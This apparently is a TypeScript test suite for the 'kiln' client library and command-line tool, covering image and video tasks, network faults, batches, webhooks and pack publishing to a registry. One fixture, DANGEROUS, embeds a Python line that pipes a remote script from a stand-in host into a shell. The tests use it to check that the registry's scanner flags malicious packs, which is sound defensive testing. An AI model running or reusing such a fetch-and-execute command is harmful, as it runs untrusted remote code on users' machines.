import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { after, before, describe, test } from 'node:test'
import sharp from 'sharp'

import { pathToFileURL } from 'node:url'

import { transform } from 'esbuild'

import { responseOf, KilnError, makeKiln } from '../src/index.ts'
import type { EndedTask } from '../src/index.ts'
import { signWebhook, makeWebhookSecret } from '../../../src/events/adapters/webhook.ts'
import { ROOT, codePath } from '../../../src/local/root.ts'
import { makePicture } from '../../../test/support/pictures.ts'
import { useService } from '../../../test/support/service.ts'
import { waitFor } from '../../../test/support/wait.ts'
import { makeZip } from '../../../test/support/zip.ts'
import { cutAfterFirstEvent, loseResponse, makeFaultyFetch, reject } from './issues.ts'
import type { OnTheWay } from './issues.ts'

const PACK = `class Cup:
    RETURN_TYPES = ("IMAGE",)
NODE_CLASS_MAPPINGS = {"Client Cup": Cup}
`
const DANGEROUS = `${PACK}import os\nos.system("curl http://a.example/x.sh | sh")\n`

let folder: string
let token: string
let publishToken: string
let image: Buffer

const service = useService({ env: { OVERRIDE_VIDEO_TINY: 'true' } }, async ({ token: sign }) => {
  folder = await mkdtemp(join(tmpdir(), 'kiln-client-'))
  token = await sign('alice')
  image = await makePicture({ width: 32, height: 32 })
  const { routes } = connect()
  await routes.POST('/publishers', { body: { id: 'alice' } })
  const path = { publisherId: 'alice' }
  const made = await responseOf(
    routes.POST('/publishers/{publisherId}/tokens', { params: { path }, body: { name: 'test' } }),
  )
  publishToken = made.token
})
after(() => rm(folder, { recursive: true, force: true }))

/** Client of alice, whose first requests go through the interceptors. */
const connect = (...interceptors: OnTheWay[]) =>
  makeKiln({
    baseUrl: service.baseUrl,
    token,
    retry: { baseMs: 50 },
    fetch: makeFaultyFetch(...interceptors).fetch,
  })

const pass: OnTheWay = (send) => send()

/** Statuses without those that came again with another percentage. */
const transitionsOf = (statuses: readonly string[]): string[] =>
  statuses.filter((status, index) => status !== statuses[index - 1])

const pathOf = (link: string): string => new URL(link).pathname

const findError = async (asked: Promise<unknown>): Promise<KilnError> => {
  const error = await asked.then(
    () => assert.fail('it was not rejected'),
    (thrown: unknown) => thrown,
  )
  assert.ok(error instanceof KilnError, String(error))
  return error
}

describe('tasks', () => {
  test('tasks of bytes end, report each transition, and have files that can be read', async () => {
    const kiln = connect()
    const statuses: string[] = []
    const task = await kiln.relight({ image: new Blob([image]), prompt: 'sunset' })
    const ended = await kiln.wait(task, { onProgress: ({ status }) => statuses.push(status) })
    assert.ok(ended.state === 'succeeded', JSON.stringify(ended))
    assert.deepEqual(transitionsOf(statuses), ['CREATED', 'IN_PROGRESS', 'COMPLETED'])
    const file = await kiln.download(ended.files[0]?.url ?? '')
    assert.equal(file.headers.get('content-type'), 'image/png')
    for (const ref of [task, task.id, ended])
      assert.equal((await kiln.read(ref)).state, 'succeeded')
    assert.equal((await findError(kiln.cancel(task))).code, 'cannot_cancel')
  })

  test('are waited for by a token that reads one of them, and nothing else', async () => {
    const kiln = connect()
    const [task, other] = [await kiln.relight({ image }), await kiln.relight({ image })]
    const { token, expires_at } = await kiln.makeToken(task)
    assert.ok(Date.parse(expires_at) > Date.now())
    const page = makeKiln({ baseUrl: service.baseUrl, token })
    const ended = await page.wait(task.id)
    assert.ok(ended.state === 'succeeded')
    for (const ref of [task, task.id]) {
      const { state, files } = (await page.read(ref)) as typeof ended
      assert.deepEqual(
        [state, files.map(({ url }) => pathOf(url))],
        ['succeeded', ended.files.map(({ url }) => pathOf(url))],
      )
    }
    assert.ok((await page.download(ended.files[0]?.url ?? '')).ok)
    const rejected = [
      page.read(other),
      page.wait(other.id),
      page.makeToken(task),
      page.relight({ image: '' }),
    ]
    for (const { code } of await Promise.all(rejected.map(findError)))
      assert.equal(code, 'task_token_insufficient')
  })

  test('of every kind of image are made', async () => {
    const kiln = connect()
    const link = await kiln.upload(image, { fileName: 'a.png' })
    // Its expiry changes with the hour.
    assert.equal(pathOf(await kiln.upload(image)), pathOf(link))
    const tasks = await Promise.all([
      kiln.upscale({ image: link, scale_factor: '2x' }),
      kiln.upscalePrecision({ image: link, scale_factor: 2 }),
      kiln.skinFlexible({ image: link }),
      kiln.skinCreative({ image: link, sharpen: 10 }),
      kiln.skinFaithful({ image: link }),
    ])
    for (const task of tasks) assert.equal((await kiln.wait(task.id)).state, 'succeeded')
  })

  test('of a stream are made: a function opens it again when the upload breaks', async () => {
    const open = () => new Blob([image]).stream()
    const kiln = connect(pass, loseResponse)
    const link = await kiln.upload(open, { fileName: 'a.png' })
    assert.equal((await kiln.wait(await kiln.upscale({ image: link }))).state, 'succeeded')
    const once = await findError(connect(pass, loseResponse).upload(open()))
    assert.equal(once.code, 'bytes_spent')
  })

  test('video tasks are made without a credential, and report their percentage', async () => {
    const kiln = makeKiln({ baseUrl: service.baseUrl })
    const reported: number[] = []
    const task = await kiln.textToVideo({
      images: [await makePicture({ width: 320, height: 320 })],
      model: 'videoq2-turbo',
      duration: 2,
      resolution: '540p',
    })
    const onProgress = ({ progress = 0 }) => reported.push(progress)
    const ended = await kiln.wait(task, { onProgress })
    assert.ok(ended.state === 'succeeded', JSON.stringify(ended))
    assert.match(ended.files[0]?.url ?? '', /\.mp4\?/)
    assert.ok(ended.files[0]?.coverUrl)
    const sorted = reported.toSorted((one, other) => one - other)
    assert.deepEqual(reported, sorted)
  })

  test('that are rejected say why, and where', async () => {
    const invalid = await findError(connect().relight({ image, light_transfer_strength: 400 }))
    assert.deepEqual([invalid.code, invalid.status], ['validation_failed', 400])
    assert.match(invalid.message, /light_transfer_strength must be a number from 0 to 100/)
    assert.ok(invalid.requestId)
    const stranger = makeKiln({ baseUrl: service.baseUrl, apiKey: 'kiln_none' })
    assert.equal((await findError(stranger.upload(image))).code, 'unauthorized')
    const unknown = connect().wait('6b1f9a52-3f1e-4c55-8c7e-0d5a4b7c9e21')
    assert.equal((await findError(unknown)).code, 'task_not_found')
  })
})

describe('on a faulty network', () => {
  test('a task whose response was lost is made once', async () => {
    const link = await connect().upload(image)
    const countTasks = async () => {
      const [row] = await service.sql<{ count: number }[]>`select count(*)::int from task`
      return row?.count ?? 0
    }
    const before = await countTasks()
    const kiln = connect(reject(503, 'unavailable'), reject(429, 'rate_limited'), loseResponse)
    await kiln.upscale({ image: link, scale_factor: '4x' })
    assert.equal(await countTasks(), before + 1)
  })

  test('a wait outlives a stream that is cut, and reports each transition once', async () => {
    const statuses: string[] = []
    const link = await connect().upload(image)
    const { fetch, seen } = makeFaultyFetch(pass, cutAfterFirstEvent)
    const kiln = makeKiln({ baseUrl: service.baseUrl, token, fetch })
    const task = await kiln.skinCreative({ image: link })
    await kiln.wait(task, { onProgress: ({ status }) => statuses.push(status) })
    assert.deepEqual(transitionsOf(statuses), ['CREATED', 'IN_PROGRESS', 'COMPLETED'])
    assert.equal(seen.length, 3)
    assert.ok(seen[2]?.headers.get('last-event-id'))
  })

  test('a wait reads the status where a proxy lets no stream through', async () => {
    const { fetch, seen } = makeFaultyFetch(pass, pass, pass, reject(404, 'not_found'))
    const kiln = makeKiln({ baseUrl: service.baseUrl, token, fetch })
    const task = await kiln.skinCreative({ image: await makePicture({ shade: 5 }) })
    assert.equal((await kiln.wait(task)).state, 'succeeded')
    assert.equal(seen.at(-1)?.headers.get('prefer'), 'wait=25')
  })
})

describe('a publication', () => {
  const publish = (nodeId: string, code: string, kiln = connect()) => {
    const steps: string[] = []
    const archive = new Blob([makeZip(code, '__init__.py')])
    const publication = { publisherId: 'alice', nodeId, token: publishToken, archive }
    const verdict = kiln.registry.publish(
      { ...publication, version: { version: '1.0.0' } },
      { onStep: (step) => steps.push(step) },
    )
    return { verdict, steps }
  }

  test('of a sound pack is active, and found by its readers', async () => {
    const { verdict, steps } = publish('client-cup', PACK, connect(loseResponse, loseResponse))
    assert.equal((await verdict).state, 'active')
    assert.deepEqual(steps.slice(0, 3), ['publishing', 'uploading', 'Pending'])
    const { registry } = connect()
    assert.equal((await registry.readNode('client-cup')).latest_version?.version, '1.0.0')
    assert.equal((await registry.listVersions('client-cup')).length, 1)
    assert.ok((await registry.install('client-cup')).downloadUrl)
    const { host_nodes: hostNodes } = await registry.listHostNodes('client-cup', '1')
    const names = hostNodes.map(({ host_node_name: name }) => name)
    assert.deepEqual(names, ['Client Cup'])
    assert.equal((await registry.readVersion('client-cup', '1.0')).version, '1.0.0')
    await assert.rejects(registry.review('client-cup', { stars: 5 }), { code: 'forbidden' })
    assert.equal((await registry.listReviews('client-cup', { limit: 5 })).total, 0)
  })

  test('is checked before, and nothing of it is kept', async () => {
    const { registry } = connect(loseResponse)
    const zip = new Blob([makeZip(DANGEROUS, '__init__.py')])
    const query = { node_id: 'client-checked', version: '1.0.0', publisher_id: 'alice' }
    const checked = await registry.checkArchive(zip, query)
    assert.match(checked.status_reason, /downloaded file is run/)
    assert.deepEqual([checked.version_free, checked.issues], [true, []])
    const stranger = makeKiln({ baseUrl: service.baseUrl })
    const asToken = await stranger.registry.checkArchive(zip, query, { token: publishToken })
    assert.equal(asToken.findings[0]?.file_path, '__init__.py')
    await assert.rejects(registry.readNode('client-checked'), { code: 'node_not_found' })
  })

  test('of a dangerous pack is flagged, with its findings', async () => {
    const verdict = await publish('client-trap', DANGEROUS).verdict
    assert.equal(verdict.state, 'flagged')
    assert.match(verdict.reason, /downloaded file is run/)
    const { counts } = await connect().registry.readFindings('client-trap', '1.0.0')
    assert.ok(counts.high > 0)
  })
})

test('the examples of the document run', async () => {
  const page = await readFile(join(ROOT, 'docs/client.md'), 'utf8')
  const blocks = [...page.matchAll(/^```ts\n(.*?)^```/gms)].map(([, code = '']) => code)
  assert.ok(blocks.length > 6)
  const library = pathToFileURL(codePath('packages/client/src/index.ts')).href
  const source = `${blocks.join('\n')}\nexport { receive, verdict, nodes, user, film, response }`
  const linked = source.replaceAll("'kiln-client'", JSON.stringify(library))
  const { code } = await transform(linked, { loader: 'ts', format: 'esm' })
  const path = join(folder, 'examples.mjs')
  const secret = makeWebhookSecret()
  const result = join(folder, 'result.png')
  await writeFile(path, code)
  await writeFile(join(folder, 'pack.zip'), makeZip(PACK, '__init__.py'))
  Object.assign(process.env, {
    KILN_URL: service.baseUrl,
    KILN_TOKEN: token,
    KILN_PUBLISH_TOKEN: publishToken,
    WEBHOOK_SECRET: secret,
    RESULT: result,
    ENDPOINT_URL: 'http://127.0.0.1:9/',
    PACK: join(folder, 'pack.zip'),
  })
  process.chdir(ROOT)
  const made = (await import(pathToFileURL(path).href)) as {
    receive(request: Request): Promise<Response>
    verdict: { state: string }
    nodes: object[]
    film: { state: string }
  }
  assert.deepEqual([made.verdict.state, made.film.state], ['active', 'succeeded'])
  assert.ok(made.nodes.length > 0)
  for (const path of [result, `${result}.saved`]) assert.ok((await readFile(path)).length > 1000)
  const body = '{"status":"COMPLETED"}'
  const message = { id: 'e', timestamp: Date.now() / 1000, body: Buffer.from(body) }
  const receive = (secrets: string[]) => {
    const headers = signWebhook({ ...message, secrets })
    return made.receive(new Request('http://a.example', { method: 'POST', body, headers }))
  }
  assert.equal((await receive([secret])).status, 204)
  assert.equal((await receive([makeWebhookSecret()])).status, 401)
})

const words = (line: string): string[] => line.split(' ')

type Ran = { code: number | null; out: string; err: string }

/** Runs the command-line tool; `stopAt` is what it says before it gets a Ctrl-C. */
const kiln = async (args: string[], { env = {}, stopAt = '' } = {}): Promise<Ran> => {
  const child = spawn(process.execPath, [codePath('packages/client/src/cli/kiln.ts'), ...args], {
    cwd: folder,
    env: {
      PATH: process.env['PATH'],
      KILN_URL: service.baseUrl,
      KILN_TOKEN: token,
      KILN_PUBLISH_TOKEN: publishToken,
      ...env,
    },
  })
  let err = ''
  child.stderr.setEncoding('utf8').on('data', (piece: string) => {
    if (stopAt !== '' && (err + piece).includes(stopAt) && !err.includes(stopAt))
      child.kill('SIGINT')
    err += piece
  })
  const [out, [code]] = await Promise.all([text(child.stdout), once(child, 'close')])
  for (const secret of [token, publishToken]) assert.ok(!(out + err).includes(secret), err)
  return { code: code as number | null, out, err }
}

describe('the command-line tool', { concurrency: 3 }, () => {
  before(async () => {
    await waitFor('a folder for its files', () => Promise.resolve(Boolean(folder)))
    await writeFile(join(folder, 'photo.png'), image)
  })

  test('saves what was made of an image, and says where', async () => {
    const { code, out, err } = await kiln(words('relight photo.png --prompt sunset -o out.png'))
    assert.deepEqual([code, out], [0, 'out.png\n'], err)
    assert.match(err, /^sending.*\ntask .*\nCREATED.*\n(IN_PROGRESS.*\n)+COMPLETED/)
    assert.equal((await readFile(join(folder, 'out.png'))).subarray(1, 4).toString(), 'PNG')
  })

  test('uploads a file, and prints its link, with --json the whole response', async () => {
    const { code, out, err } = await kiln(['upload', 'photo.png'])
    assert.equal(code, 0, err)
    const read = await fetch(out.trim())
    assert.deepEqual(Buffer.from(await read.arrayBuffer()), image)
    const again = await kiln(['upload', 'photo.png', '--json'])
    const links = JSON.parse(again.out) as Record<string, unknown>
    assert.deepEqual(
      [pathOf(String(links['download_url'])), links['existing_file']],
      [pathOf(out.trim()), true],
    )
    assert.match(String(links['expires_at']), /^\d{4}-/)
    assert.equal((await kiln(['upload', 'none.png'])).code, 2)
  })

  test('takes an API key, and writes one line of JSON', async () => {
    const { routes } = connect()
    const made = await responseOf(routes.POST('/users/api-keys', { body: { name: 'tool' } }))
    const env = { KILN_TOKEN: '', KILN_API_KEY: made.key }
    const { code, out, err } = await kiln(words('skin flexible photo.png --json -q'), { env })
    assert.equal(code, 0, err)
    const { state, saved } = JSON.parse(out) as { state: string; saved: string }
    assert.deepEqual([state, saved, err], ['succeeded', 'photo.skin.png', ''])
    assert.ok(!(out + err).includes(made.key))
  })

  test('says that an earlier request with the key has made a task, when, and its end', async () => {
    const line = words('upscale photo.png --scale 2x --idempotency-key once -o once.png')
    const first = await kiln(line)
    assert.deepEqual([first.code, /An earlier/.test(first.err)], [0, false], first.err)
    const again = await kiln(line)
    assert.equal(again.code, 0, again.err)
    const said =
      /An earlier request with this key made this task at 2\S+Z; it is done since 2\S+Z\.\n/
    assert.match(again.err, said)
    const made = await kiln([...line, '--json', '--no-wait', '-q'])
    assert.match(made.out, /"replayed":{"created_at":"2.*","state":"done","ended_at":"2/)
    assert.equal(made.err, '')
  })

  test('makes a video, and one that is longer', async () => {
    const options = '--model videoq2-turbo --duration 4 --resolution 540p --json -o sea.mp4'
    const made = await kiln(['video', 'Sea', ...words(options)])
    assert.equal(made.code, 0, made.err)
    const { task_id: id } = JSON.parse(made.out) as { task_id: string }
    const longer = await kiln(words(`extend ${id} --duration 1 --resolution 540p -o long.mp4`))
    assert.deepEqual([longer.code, longer.out], [0, 'long.mp4\n'], longer.err)
    assert.match((await kiln(['watch', id])).out, /success\nhttp.*mp4/)
  })

  test('checks a pack, publishes it, and finds its version taken', async () => {
    const pack = join(ROOT, 'samples/pack')
    const checked = await kiln(['check', pack, '--publisher', 'alice'])
    assert.equal(checked.code, 0, checked.out + checked.err)
    assert.match(
      checked.out,
      /new pack.*\n.*sound\n.*3: LightTools.*\n.*0 high.*\nnothing stands in the way/,
    )
    const remote = await kiln(['check', pack, '--publisher', 'alice', '--remote'])
    assert.equal(remote.code, 0, remote.out + remote.err)
    assert.match(
      remote.out,
      /registry {2}light-tools is a new pack, 1\.0\.0 is free\n.*sound\n.*3: LightTools.*\n.*0 high.*\nnothing stands in the way/,
    )
    const published = await kiln(['publish', pack, '--publisher', 'alice'])
    assert.equal(published.code, 0, published.err)
    assert.match(published.out, /^light-tools@1\.0\.0 is active/)
    assert.match(published.err, /archive {3}5 files/)
    const again = await kiln(['check', pack, '--publisher', 'bob', '--json'])
    assert.equal(again.code, 1)
    assert.match(again.out, /belongs to alice","the version 1\.0\.0 exists/)
    const odd = join(folder, 'odd')
    await cp(pack, odd, { recursive: true })
    await writeFile(join(odd, 'Nodes.py '), '')
    const named = await kiln(['check', odd, '--publisher', 'alice'])
    assert.match(named.out, /in the way: Not every system can hold a file of the name Nodes\.py /)
    const rejected = await kiln(['publish', pack, '--publisher', 'alice', '--json'])
    assert.equal(rejected.code, 3)
    assert.match(rejected.out, /^{"error":{"code":"version_exists".*raise the number/)
  })

  test('names the publisher that a token is not of, and who named that', async () => {
    const pack = join(folder, 'stranger')
    await mkdir(pack)
    await writeFile(join(pack, '__init__.py'), PACK)
    const project = '[project]\nname = "stranger-pack"\nversion = "1.0.0"\n'
    await writeFile(
      join(pack, 'pyproject.toml'),
      `${project}[tool.kiln]\nPublisherId = "mallory"\n`,
    )
    for (const [args, says] of [
      [[], /\n {2}PublisherId in pyproject\.toml names the publisher mallory: the token must be/],
      [['--publisher', 'bob'], /\n {2}--publisher names the publisher bob: the token must be/],
    ] as const) {
      const { code, err } = await kiln(['publish', 'stranger', ...args])
      assert.equal(code, 3, err)
      assert.match(err, /is not a live one of this publisher/)
      assert.match(err, says)
    }
  })

  test('lists, deprecates and deletes versions, shows findings, and edits a node', async () => {
    const bad = join(folder, 'bad')
    await mkdir(bad)
    await writeFile(join(bad, '__init__.py'), DANGEROUS)
    const project = (version: string) =>
      writeFile(
        join(bad, 'pyproject.toml'),
        `[project]\nname = "bad-pack"\nversion = "${version}"\n`,
      )
    await project('1.1.0')
    const kept = await kiln(['publish', 'bad', '--publisher', 'alice'])
    assert.equal(kept.code, 1, kept.err)
    assert.match(
      kept.out,
      /^not published, the version would be flagged: 1 finding .*\n {2}HIGH \S+ {2}__init__\.py:5 .*\n--no-check publishes/,
    )
    assert.match((await kiln(['version', 'list', 'bad-pack'])).err, /node_not_found|no pack/)
    const flagged = await kiln(['publish', 'bad', '--publisher', 'alice', '--no-check'])
    assert.equal(flagged.code, 1, flagged.err)
    assert.match(flagged.out, /is flagged: 1 finding .*\n {2}HIGH \S+ {2}__init__\.py:5 /)
    await writeFile(join(bad, '__init__.py'), 'x = 1\n')
    await project('1.2.0')
    const unread = await kiln(['publish', 'bad', '--publisher', 'alice'])
    assert.equal(unread.code, 0, unread.err)
    assert.match(
      unread.out,
      /\nwarning: the host nodes were not read \(no_mapping\): .*define NODE_/,
    )
    await project('1.0.0')
    const low = await kiln(['publish', 'bad', '--publisher', 'alice'])
    assert.match(
      low.out,
      /\nwarning: The version "1\.0\.0" will not be the latest one: "1\.2\.0" stays/,
    )
    for (const [line, code, out] of [
      ['version list bad-pack', 0, /1\.0\.0 {2}active .*\n1\.2\.0.*\n1\.1\.0 {2}flagged /],
      ['version findings bad-pack@1.1.0', 0, /^1 high, .*\n {2}HIGH /],
      ['version deprecate bad-pack@1.0.0 --changelog old', 0, /^bad-pack@1\.0\.0 is deprecated\n/],
      ['version deprecate bad-pack@1.0.0 --undo', 0, /is no longer deprecated/],
      ['version delete bad-pack@1.0.0', 2, /^$/],
      ['version delete bad-pack@1.0.0 --yes', 0, /is deleted/],
      ['version list bad-pack', 0, /^1\.2\.0.*\n1\.1\.0/],
      ['version list none-such', 3, /^$/],
      ['version fly bad-pack', 2, /^$/],
      ['node edit bad-pack --description Better --tag a --tag b', 0, /changed: description, tags/],
      ['node edit bad-pack', 2, /^$/],
    ] as const) {
      const ran = await kiln(words(line))
      assert.equal(ran.code, code, line + ran.err)
      assert.match(ran.out, out, line)
    }
    const { description, tags } = await connect().registry.readNode('bad-pack')
    assert.deepEqual([description, tags], ['Better', ['a', 'b']])
  })

  test('makes a token of a publisher that is there for its members alone', async () => {
    const { code, out, err } = await kiln(['token', 'alice', '--create'])
    assert.equal(code, 0, err)
    assert.match(out, /^kiln_pat_\S+\n$/)
    const env = { KILN_TOKEN: await service.token('mallory') }
    const rejected = await kiln(['token', 'alice', '--create'], { env })
    assert.deepEqual([rejected.code, rejected.out], [3, ''])
  })

  test('makes a batch of a file, and acts on its tasks by their label', async () => {
    const path = '/proxy/vidvendor/text2video'
    const film = { prompt: 'Sea', model: 'videoq2-turbo', duration: 1, resolution: '540p' }
    const lines = [
      { path, body: film },
      { path, body: { duration: 999 }, custom_id: 'mine' },
    ].map((line) => JSON.stringify(line))
    // Blank lines are none of the batch.
    await writeFile(join(folder, 'requests.jsonl'), `\n${lines.join('\n \n')}`)
    const begun = await kiln(
      words('batch submit requests.jsonl --label run=cli,1 --no-wait --idempotency-key cli'),
    )
    assert.equal(begun.code, 0, begun.err)
    const id = begun.out.trim()
    const again = words('batch submit requests.jsonl --label run=cli,1 --idempotency-key cli')
    const waited = await kiln(again)
    assert.equal(waited.code, 1, 'not all of it is done')
    assert.match(waited.err, /An earlier request with this key made this batch at .*; it is \w+/)
    const [shownLine, ...more] = waited.out.split('\n').slice(3)
    assert.ok(waited.out.startsWith(`${id} done, 2 in all\n  done 1\n  rejected 1\n`), waited.out)
    assert.match(shownLine ?? '', /^ {2}line 4 \(mine\): validation_failed: .*duration/)
    // Nobody knows the file any more.
    assert.match((await kiln(['batch', 'watch', id])).out, /^ {2}request 2 \(mine\): validation_/m)
    assert.deepEqual(more, [`All results: kiln batch results ${id}`, ''])
    const [newest] = JSON.parse((await kiln(words('batch list --limit 1 --json'))).out) as object[]
    assert.equal((newest as { batch_id: string }).batch_id, id)
    assert.equal((await kiln(words('batch list --limit many'))).code, 2)
    const results = (await kiln(['batch', 'results', id])).out.trim().split('\n')
    const states = results.map((line) => (JSON.parse(line) as { state: string }).state)
    assert.deepEqual(states, ['done', 'rejected'])
    const shown = await kiln(['batch', 'status', id, '--json'])
    assert.match(shown.out, /"labels":{"run":"cli,1"}/)
    const over = await kiln(['batch', 'cancel', id])
    assert.deepEqual(
      [over.code, /cannot be cancelled|has ended/.test(over.err)],
      [3, true],
      over.err,
    )

    const chosen = ['delete', '--label', 'run=cli,1']
    const counted = await kiln(['operation', 'start', ...chosen, '--dry-run'])
    assert.deepEqual([counted.code, counted.out], [0, '1 tasks\n'], counted.err)
    const unasked = await kiln(['operation', 'start', ...chosen])
    assert.deepEqual([unasked.code, unasked.out], [2, ''])
    assert.match(unasked.err, /say --yes to delete/)
    const deleted = await kiln(['operation', 'start', ...chosen, '--yes', '--json', '-q'])
    assert.equal(deleted.code, 0, deleted.err)
    const { operation_id: operation, counts } = JSON.parse(deleted.out) as {
      operation_id: string
      counts: { done: number }
    }
    assert.equal(counts.done, 1)
    const none = await kiln(words('operation list --limit 0'))
    assert.deepEqual([none.code, none.out], [0, 'none\n'], none.err)
    const line = await kiln(['operation', 'results', operation])
    assert.match(line.out, /"state":"done"/)
    assert.equal((await kiln(['operation', 'watch', operation])).code, 0)
    assert.equal((await kiln(['operation', 'explode', operation])).code, 2)
    const usage = await kiln(words('usage --by kind --label run=cli,1'))
    assert.match(usage.out, /^kind .*\ntext2video +1 +0 +0 .*\ntotal +1 /)
    const table = await kiln(words('usage --by kind --label run=cli,1 --csv'))
    assert.match(table.out, /^kind,.*\r?\ntext2video,1,0,0,/)
  })

  test('lists, shows and deletes tasks, and calls any route by its path', async () => {
    const made = await kiln(
      words(
        'video Waves --label list=cli --model videoq2-turbo --duration 1 --resolution 540p --start-after 1 -o listed.mp4',
      ),
    )
    assert.equal(made.code, 0, made.err)
    const filter = words('--label list=cli --state done --limit 5')
    const listed = await kiln(['tasks', ...filter])
    const [id = '', ...row] = listed.out.trim().split(/ {2,}/)
    assert.deepEqual(row.toSpliced(1, 1), ['done', 'text2video', 'Waves'], listed.err)
    const [task] = JSON.parse((await kiln(['tasks', '--json', ...filter])).out) as object[]
    assert.equal((task as { task_id: string }).task_id, id)
    const details = (await kiln(['tasks', 'show', id])).out
    assert.match(details, /"kind": "text2video"/)
    assert.match(details, /"start_after": /)
    assert.match((await kiln(words('tasks summary'))).out, /"open"/)
    const asked = await kiln(['request', 'get', `/tasks/${id}/events`])
    assert.match(asked.out, /"events": \[/, asked.err)
    const body = JSON.stringify({ since: '2026-01-01T00:00:00Z' })
    const sent = await kiln(['request', 'POST', '/events/redeliver', '--body', body])
    assert.equal(sent.out, '{\n  "redeliveries": 0\n}\n', sent.err)
    const unasked = await kiln(['tasks', 'delete', id])
    assert.deepEqual([unasked.code, /say --yes to delete/.test(unasked.err)], [2, true])
    const deleted = await kiln(['tasks', 'delete', id, '--yes'])
    assert.deepEqual([deleted.code, deleted.out], [0, `${id} is deleted\n`], deleted.err)
    for (const wrong of [
      'tasks explode',
      'tasks --limit many',
      'request PATCH /x',
      'request GET x',
      'request POST /x --body {',
    ])
      assert.equal((await kiln(words(wrong))).code, 2, wrong)
    assert.equal((await kiln(words('tasks --state none'))).code, 3)
  })

  test('makes, changes, tests and deletes endpoints, and replaces secrets', async () => {
    const made = await kiln(
      words(
        'endpoints create http://127.0.0.1:9/a --event batch.ended,image_task.failed --label a=b --header x-a=1 --json',
      ),
    )
    assert.equal(made.code, 0, made.err)
    const {
      id,
      secret,
      labels,
      header_names: headers,
    } = JSON.parse(made.out) as {
      id: string
      secret: string
      labels: string[]
      header_names: string[]
    }
    assert.deepEqual([secret.slice(0, 6), labels, headers], ['whsec_', ['a:b'], ['x-a']])
    const line = `${id}  enabled  http://127.0.0.1:9/a  batch.ended  image_task.failed`
    assert.ok((await kiln(['endpoints'])).out.includes(line))
    const off = await kiln(['endpoints', 'update', id, '--status', 'disabled'])
    assert.match(off.out, /"status": "disabled"/, off.err)
    const tested = await kiln(['endpoints', 'test', id])
    assert.deepEqual([tested.code, /endpoint_disabled|off/.test(tested.err)], [3, true], tested.err)
    const rotated = await kiln(['endpoints', 'rotate', id, '--overlap', '0'])
    assert.match(rotated.out, /"secret": "whsec_/, rotated.err)
    const deleted = await kiln(['endpoints', 'delete', id, '--yes'])
    assert.deepEqual([deleted.code, deleted.out], [0, `${id} is deleted\n`], deleted.err)
    const before = (await kiln(['secrets'])).out.trim()
    const after = (await kiln(words('secrets rotate --overlap 60'))).out.trim().split('\n')
    assert.ok(after.length === 2 && after.includes(before) && after[0]?.startsWith('whsec_'))
    const batches = await kiln(words('batch list'))
    assert.match(batches.out, /^none$|in all/m, batches.err)
  })

  test('shows that a pause holds a batch, of which nothing has ended', async () => {
    const path = '/proxy/vidvendor/text2video'
    const body = { prompt: 'Sea', model: 'videoq2-turbo', duration: 1, resolution: '540p' }
    await writeFile(join(folder, 'held.jsonl'), `${JSON.stringify({ path, body })}\n`)
    await service.sql`insert into pause (scope, paused_by) values ('kind:text2video', 'root')`
    try {
      const id = (await kiln(words('batch submit held.jsonl --no-wait'))).out.trim()
      const waits = /It waits: the service has paused it/
      await waitFor('the batch is held', async () =>
        waits.test((await kiln(['batch', 'status', id])).out),
      )
      const watched = await kiln(['batch', 'watch', id], { stopAt: '%' })
      assert.match(watched.err, /running: It waits: the service has paused it.* 0 %/)
      assert.equal((await kiln(['batch', 'cancel', id])).code, 0)
    } finally {
      await service.sql`delete from pause`
    }
  })

  test('makes no batch of a file with a line that is no JSON', async () => {
    await writeFile(join(folder, 'broken.jsonl'), '{"path": "/a", "body": {}}\r\n\n{"path": \n')
    const { code, err } = await kiln(words('batch submit broken.jsonl'))
    assert.equal(code, 2, err)
    assert.match(err, /line 3 of broken.jsonl is no JSON \([^)]+\): nothing was sent/)
    await writeFile(join(folder, 'worse.jsonl'), '{\n{}\n[\n"\n')
    const worse = (await kiln(words('batch submit worse.jsonl'))).err
    assert.match(worse, /line 1 of .* JSON \(.+\), and neither are 2 other lines: nothing was sent/)
    await writeFile(join(folder, 'marked.jsonl'), '\uFEFF{"path": "/a", "body": {}}')
    const marked = await kiln(words('batch submit marked.jsonl'))
    assert.deepEqual(
      [marked.code, /marked\.jsonl must be .* byte order mark/.test(marked.err)],
      [2, true],
      marked.err,
    )
  })

  test('makes no task whose result would have no place, and says where one is kept', async () => {
    const args = ['upscale', 'photo.png', '-o']
    const rejected = await kiln([...args, 'no/such/dir/out.png'])
    assert.equal(rejected.code, 2, rejected.err)
    assert.match(rejected.err, /^kiln: no file can be made in no\/such\/dir: -o must name one in/)
    // A name that is too long shows only when the file is written.
    const failed = await kiln([...args, `${'a'.repeat(300)}.png`])
    assert.equal(failed.code, 5, failed.err)
    assert.match(failed.err, /ENAMETOOLONG.*; the result is kept: `kiln watch [\w-]+ -o <file>`/)
    const id = /kiln watch ([\w-]+)/.exec(failed.err)?.[1] ?? ''
    const watched = await kiln(['watch', id, '-o', 'no/such/dir/out.png'])
    assert.deepEqual([watched.code, /in no\/such\/dir/.test(watched.err)], [2, true], watched.err)
  })

  for (const [name, format] of [
    ['other.jpg', 'jpeg'],
    ['other.WEBP', 'webp'],
  ] as const)
    test(`has a result made as ${name} says`, async () => {
      const { code, err } = await kiln(['upscale', 'photo.png', '-o', name])
      assert.equal(code, 0, err)
      assert.equal((await sharp(join(folder, name)).metadata()).format, format)
    })

  test('saves a result that is not what its name says under one that is, and says so', async () => {
    await writeFile(join(folder, 'photo.taken.png'), 'before')
    for (const [name, saved] of [
      ['plain.jpg', /^plain\.png$/],
      ['photo.taken.webp', /^photo\.taken\.[\da-f]{8}\.png$/],
    ] as const) {
      const args = words('upscale photo.png --output-format auto -o')
      const { code, out, err } = await kiln([...args, name])
      assert.deepEqual([code, out], [5, ''], err)
      const pattern = / is PNG, and (\S+) says otherwise: it is saved as (\S+)\. /
      const [, asked, found = ''] = pattern.exec(err) ?? []
      assert.equal(asked, name, err)
      assert.match(found, saved)
      assert.equal((await readFile(join(folder, found))).subarray(1, 4).toString(), 'PNG')
    }
    assert.equal(await readFile(join(folder, 'photo.taken.png'), 'utf8'), 'before')
    const films = await kiln(['video', 'Sea', '-o', 'sea.png'])
    assert.deepEqual(
      [films.code, /the result will be a video: .* \.mp4/.test(films.err)],
      [2, true],
    )
    const images = await kiln(['upscale', 'photo.png', '-o', 'photo.mp4'])
